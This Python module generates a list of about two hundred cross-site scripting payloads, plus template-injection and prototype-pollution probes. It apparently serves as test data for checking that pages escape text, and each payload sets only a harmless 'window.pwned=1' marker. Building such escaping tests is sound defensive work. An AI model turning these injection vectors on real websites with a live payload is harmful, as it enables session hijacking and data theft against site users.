"""Two hundred texts that would run in a page which forgets to escape, in every way we know of.

Made of what runs (an event, a script, an address) and of what leads out of where a text stands.
"""

RUN = "window.pwned=1"

# Out of: text, an attribute in either quotes, one without, a comment, raw text, a script, a URL.
WAYS_OUT = (
    "",
    '">',
    "'>",
    " x=y>",
    "-->",
    "</title></textarea></style></script>",
    "</noscript>",
    "]]>",
    '"/>',
    "</option></select>",
)

RUNNING = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x oneRRor='{RUN}'//",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<body onpageshow={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href=javascript:{RUN}//>",
    f"<style>@import 'javascript:{RUN}';</style>",
)

PAYLOADS = tuple(out + run for out in WAYS_OUT for run in RUNNING)
# In attributes and addresses, where no tag is needed; in templates; in names of properties.
OTHERS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//https://",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    "{{ 7 * 7 }}",
    "{% include 'x' %}",
    f"${{{RUN}}}",
    "&lt;script&gt;" + RUN + "&lt;/script&gt;",
    "\u202e<b>x</b>\u2066",
    "__proto__",
)
